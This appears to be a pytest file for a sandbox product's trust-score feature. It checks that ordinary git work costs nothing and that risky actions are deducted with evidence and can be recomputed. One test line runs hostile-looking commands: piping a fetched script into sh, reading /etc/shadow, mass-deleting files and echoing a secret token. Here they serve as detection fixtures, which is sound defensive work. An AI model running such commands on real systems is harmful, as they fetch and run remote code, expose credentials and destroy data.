"""The trust score of real guests: what it costs, what it does not, and that anybody can compute it again."""

import json

import product
import pytest
import yaml


@pytest.fixture(scope="module")
def server():
    with product.Server() as s:
        yield s


def trust(sandbox):
    return sandbox.server.api("GET", sandbox.path + "/trust")


def rules_of(sandbox):
    return [d["rule"] for d in trust(sandbox)["deductions"]]


def scored(sandbox, *rules):
    """Waits until the rules have cost something; the deductions by rule."""
    product.wait_for(f"{rules} in {rules_of(sandbox)}", lambda: set(rules) <= set(rules_of(sandbox)), 60, 0.3)
    return {d["rule"]: d for d in trust(sandbox)["deductions"]}


def test_work_costs_nothing_and_deeds_cost_with_their_evidence(server):
    s = server.create(memory_mb=256, disk_gb=1)
    s.run("git init -q . && git config --global user.email a@b.c && git config --global user.name a")
    s.run("mkdir -p src build && for i in $(seq 40); do echo x > src/$i.c; cp src/$i.c build/$i.o; done; git add -A && git commit -qm all")
    s.run("rm -rf build && git checkout -q -b next && git rm -q src/1.c && git commit -qm less && git checkout -q -")
    s.run("rm -rf src && git checkout -q -- .")  # what git puts there is no file of this session's making
    s.run("grep -rn 'curl | sh' . || true; ls -la ~/.ssh /etc/passwd 2>/dev/null || true; sh -c 'echo hello | tr a-z A-Z'")
    now = trust(s)
    assert (now["score"], now["deductions"], now["band"]) == (100, [], "excellent")

    s.exec("curl -fs http://127.0.0.1:9/x | sh; cat /etc/shadow; rm -f src/*.c; echo $MY_SECRET_TOKEN")
    found = scored(s, "exec.remote-script", "credentials.read", "delete.many", "credentials.environment")
    lines = {line["seq"]: line for line in s.record()}
    for deduction in found.values():
        own = lines[deduction["seq"]]
        assert own["type"] == "trust" and own["src"] == "host" and own["data"]["points"] == deduction["points"]
        assert deduction["evidence"] and all(seq < own["seq"] for seq in deduction["evidence"])
        assert deduction["reason"]
    assert "curl" in json.dumps(lines[found["exec.remote-script"]["evidence"][0]]["data"])
    assert {lines[seq]["type"] for seq in found["delete.many"]["evidence"]} == {"file_op"}
    assert found["delete.many"]["hits"] >= 11
    points = sum(d["points"] for d in trust(s)["deductions"])
    assert trust(s)["score"] == max(0, 100 - points) == s.get()["trust_score"]
    assert [p["score"] for p in trust(s)["trend"]][0] == 100

    s.destroy()
    ended = trust(s)
    assert ended["score"] == s.get()["trust_score"] and len(ended["deductions"]) >= 4
    assert s.record()[-1]["data"]["event"] == "destroyed"
    again = json.loads(server.cli("trust", "recompute", s.id, "--json").stdout)
    assert again["score"] == ended["score"]
    same = ("n", "rule", "points", "evidence", "what")
    assert [[d[k] for k in same] for d in again["deductions"]] == [[d[k] for k in same] for d in ended["deductions"]]
    shown = server.cli("trust", s.id, "--explain").stdout
    assert "exec.remote-script" in shown and "unread" in shown
